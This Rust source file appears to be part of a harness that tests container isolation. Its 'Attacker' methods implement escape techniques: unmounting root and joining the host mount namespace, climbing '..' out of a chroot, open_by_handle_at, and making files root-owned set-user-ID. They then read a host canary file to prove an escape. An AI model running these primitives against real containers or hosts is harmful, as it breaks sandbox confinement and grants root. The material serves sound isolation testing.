//! Ways through the file tree. Where one leads the host sees for itself, by a handle: a name proves nothing.

use super::{Argument, Attacker, Failed, unless_refused};
use crate::host::Opened;
use nix::errno::Errno;
use nix::libc::{self, c_int};
use nix::sys::stat::fstat;
use std::fs;
use std::os::fd::AsRawFd;

/// `UMOUNT_NOFOLLOW`: include/linux/fs.h.
const UMOUNT_NOFOLLOW: c_int = 8;

/// More directories than this lie above one another in no container's way up.
const MAX_DEPTH: usize = 256;

/// Where a descriptor stands: device, inode, and the mount (proc_pid_fdinfo(5)).
pub type Place = (u64, u64, u64);

impl Attacker<'_> {
    /// chroot(2).
    ///
    /// # Errors
    /// Here and below: see [`Hand::call`](super::Hand::call).
    pub fn chroot(&mut self, path: &str) -> Result<(), Failed> {
        self.call("chroot", libc::SYS_chroot, [Argument::text(path)]).map(drop)
    }

    /// setns(2).
    pub fn setns(&mut self, descriptor: c_int, kinds: c_int) -> Result<(), Failed> {
        self.call("setns", libc::SYS_setns, [descriptor.into(), kinds.into()]).map(drop)
    }

    /// umount2(2).
    pub fn umount(&mut self, path: &str, flags: c_int) -> Result<(), Failed> {
        self.call("umount2", libc::SYS_umount2, [Argument::text(path), flags.into()]).map(drop)
    }

    /// umount2(2), with one set of flags after another: see [`Attacker::with_each`].
    pub fn unmount(&mut self, path: &str) -> Result<(), Failed> {
        let ways =
            [libc::MNT_DETACH, libc::MNT_DETACH | UMOUNT_NOFOLLOW, libc::MNT_DETACH | libc::MNT_FORCE, 0];
        self.with_each(ways, |me, flags| me.umount(path, flags))
    }

    /// Takes off what is mounted at its root, and goes to the root of its mount namespace by a handle of that. Whether it
    /// could.
    pub fn uncovers_root(&mut self, namespace: c_int) -> Result<bool, Failed> {
        let uncovered = self.unmount("/").and_then(|()| self.setns(namespace, libc::CLONE_NEWNS));
        match uncovered {
            Ok(()) => Ok(true),
            Err(Failed::Refused(_)) => Ok(false),
            Err(other) => Err(other),
        }
    }

    /// open_by_handle_at(2): opens what a handle names, on the file system of a descriptor.
    pub fn open_by_handle(&mut self, on: c_int, handle: Vec<u8>, flags: c_int) -> Result<c_int, Failed> {
        let arguments = [on.into(), Argument::Bytes(handle), (flags | libc::O_CLOEXEC).into()];
        Ok(self.call("open_by_handle_at", libc::SYS_open_by_handle_at, arguments)?.value as c_int)
    }

    /// fchmod(2).
    pub fn fchmod(&mut self, file: c_int, mode: u32) -> Result<(), Failed> {
        self.call("fchmod", libc::SYS_fchmod, [file.into(), mode.into()]).map(drop)
    }

    /// fchmodat(2).
    pub fn fchmodat(&mut self, path: &str, mode: u32) -> Result<(), Failed> {
        let arguments = [libc::AT_FDCWD.into(), Argument::text(path), mode.into()];
        self.call("fchmodat", libc::SYS_fchmodat, arguments).map(drop)
    }

    /// Makes a file that it has open a set-user-ID file: with fchmod(2), or by its path with fchmodat(2). That it is one, the host
    /// sees. One that is not root's is first given to root, which who is not root may do with CAP_CHOWN alone.
    pub fn set_setuid(&mut self, file: c_int, path: &str) -> Result<(), Failed> {
        self.show(file)?;
        let is_roots = |it: &Opened| self.given("root-uid").parse() == Ok(it.uid);
        if !self.opened.last().is_some_and(is_roots) {
            unless_refused(self.give_to_root(file, path))?;
        }
        let modes = [0o4755, 0o4700 | self.some_of(&[1, 2, 4, 8, 16, 32])];
        let mut refused = Ok(());
        for by_path in [false, true] {
            let done = self.with_each(modes, |me, mode| match by_path {
                true => me.fchmodat(path, mode as u32),
                false => me.fchmod(file, mode as u32),
            });
            match done {
                Ok(()) => {
                    self.show(file)?;
                    if self.opened.last().is_some_and(|it| it.mode & libc::S_ISUID != 0) {
                        return Ok(());
                    }
                    refused = self.gives_up("the call succeeded, and the file has no set-user-ID bit");
                }
                Err(Failed::Refused(errno)) => refused = refused.and(Err(Failed::Refused(errno))),
                Err(other) => return Err(other),
            }
        }
        refused
    }

    /// fchown(2), or fchownat(2).
    fn give_to_root(&mut self, file: c_int, path: &str) -> Result<(), Failed> {
        match self.call("fchown", libc::SYS_fchown, [file.into(), 0.into(), 0.into()]) {
            Err(Failed::Refused(_)) => {}
            done => return done.map(drop),
        }
        let arguments = [libc::AT_FDCWD.into(), Argument::text(path), 0.into(), 0.into(), 0.into()];
        self.call("fchownat", libc::SYS_fchownat, arguments).map(drop)
    }

    /// pidfd_open(2) of itself.
    pub fn pidfd_of_itself(&mut self) -> Result<c_int, Failed> {
        let own = self.call("getpid", libc::SYS_getpid, [])?.value;
        Ok(self.call("pidfd_open", libc::SYS_pidfd_open, [own.into(), 0.into()])?.value as c_int)
    }

    /// Its root directory, and where that is. Not to be had is no refusal.
    pub fn root(&mut self) -> Result<(c_int, Place), Failed> {
        let root = self.look("/").map_err(Failed::in_preparation)?;
        Ok((root, self.place(root)?))
    }

    /// Where a descriptor of its stands.
    pub fn place(&mut self, descriptor: c_int) -> Result<Place, Failed> {
        let file = self.hand.duplicate(descriptor)?;
        let unknown = || Failed::GaveUp("the host could not see where a descriptor stands".into());
        let status = fstat(&file).map_err(|_| unknown())?;
        let about = fs::read_to_string(format!("/proc/self/fdinfo/{}", file.as_raw_fd()));
        let about = about.map_err(|_| unknown())?;
        let mount = about.lines().find_map(|line| line.strip_prefix("mnt_id:")?.trim().parse::<u64>().ok());
        Ok((status.st_dev, status.st_ino, mount.ok_or_else(unknown)?))
    }

    /// Whether a directory is there, and not where `place` is.
    pub fn is_elsewhere(&mut self, path: &str, place: Place) -> Result<bool, Failed> {
        let descriptor = match self.open(path, libc::O_PATH | libc::O_DIRECTORY) {
            Ok(descriptor) => descriptor,
            Err(Failed::Refused(_)) => return Ok(false),
            Err(other) => return Err(other),
        };
        let there = self.place(descriptor)?;
        self.close(descriptor)?;
        Ok(there != place)
    }

    /// Follows `..` until it leads nowhere new, and returns a descriptor of the top.
    pub fn climb(&mut self, from: c_int) -> Result<c_int, Failed> {
        let directory = libc::O_PATH | libc::O_DIRECTORY;
        let mut at = self.open_stake_at(from, ".", directory)?;
        let mut place = self.place(at)?;
        for _ in 0..MAX_DEPTH {
            let above = self.open_stake_at(at, "..", directory)?;
            self.close(at)?;
            let there = self.place(above)?;
            if there == place {
                return Ok(above);
            }
            (at, place) = (above, there);
        }
        self.gives_up("there is no end to the directories above it")
    }

    /// Takes the host's canary: one file of two in the host's tree, for root and for everybody, who may be all that is left
    /// of root. Each place, the top of a tree, is empty or ends with a slash. What is found is gone by: it may be another.
    pub fn take_canary(&mut self, directory: c_int, places: &[&str]) -> Result<(), Failed> {
        self.take_one_of_two(directory, places, self.given("canary"))
    }

    /// The same of two files of this name, of which the second's ends with `.open`.
    pub fn take_one_of_two(&mut self, directory: c_int, places: &[&str], name: &str) -> Result<(), Failed> {
        let (mut taken, mut refused) = (false, Ok(()));
        for place in places {
            for end in ["", ".open"] {
                match self.open_stake_at(directory, &format!("{place}{name}{end}"), libc::O_RDONLY) {
                    Ok(file) => {
                        taken = true;
                        self.take(file)?;
                        self.close(file)?;
                    }
                    Err(Failed::Refused(errno)) => refused = Err(Failed::Refused(errno)),
                    Err(other) => return Err(other),
                }
            }
        }
        if taken { Ok(()) } else { refused }
    }

    /// Whether a place is on the file system of the host's root directory.
    fn is_on_hosts_root(&self, (device, ..): Place) -> bool {
        self.given("root-device").parse().is_ok_and(|hosts: u64| device == hosts)
    }

    /// Climbs from a directory, and takes the canary at the top, or where else below it the host's tree is mounted. That there
    /// is none refuses only where the climb ended at `root`, where the attacker has been from the start, or on a file system
    /// that is not the host's.
    pub fn take_canary_above(&mut self, from: c_int, root: Place) -> Result<(), Failed> {
        let top = self.climb(from)?;
        let place = self.place(top)?;
        // The host reads in the mount table where; only who stands at the root of that finds them so.
        for name in self.given("canary-at").lines() {
            if unless_refused(self.take_one_of_two(top, &[""], name))?.is_some() {
                return Ok(());
            }
        }
        match self.take_canary(top, &[""]) {
            Err(Failed::Refused(Errno::ENOENT)) if place != root && self.is_on_hosts_root(place) => {
                self.gives_up("it left its root directory, and found no canary where it came")
            }
            taken => taken,
        }
    }
}
